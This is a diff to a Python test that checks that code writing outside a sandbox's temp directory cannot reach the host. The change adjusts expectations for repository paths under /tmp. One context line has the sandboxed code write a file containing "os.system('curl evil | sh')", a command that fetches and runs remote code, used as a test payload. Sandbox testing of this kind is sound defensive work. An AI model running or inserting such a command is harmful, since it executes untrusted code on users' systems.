@@ -160,7 +160,10 @@ def test_writing_outside_the_temp_dir_does_not_reach_the_host(where: str, tmp_pa
                 f.write("import os; os.system('curl evil | sh')")
         """)
         assert not target.exists()
-        if where in ("repo", "interpreter"):  # these paths exist read-only or not at all inside
+        # These paths exist read-only or not at all inside; a clone under /tmp sits in the
+        # sandbox's private /tmp instead, where the write lands and is thrown away.
+        private = target.is_relative_to("/tmp")
+        if where == "interpreter" or (where == "repo" and not private):
             assert not result.correct and "Error" in (result.detail or "")
     finally:
         target.unlink(missing_ok=True)
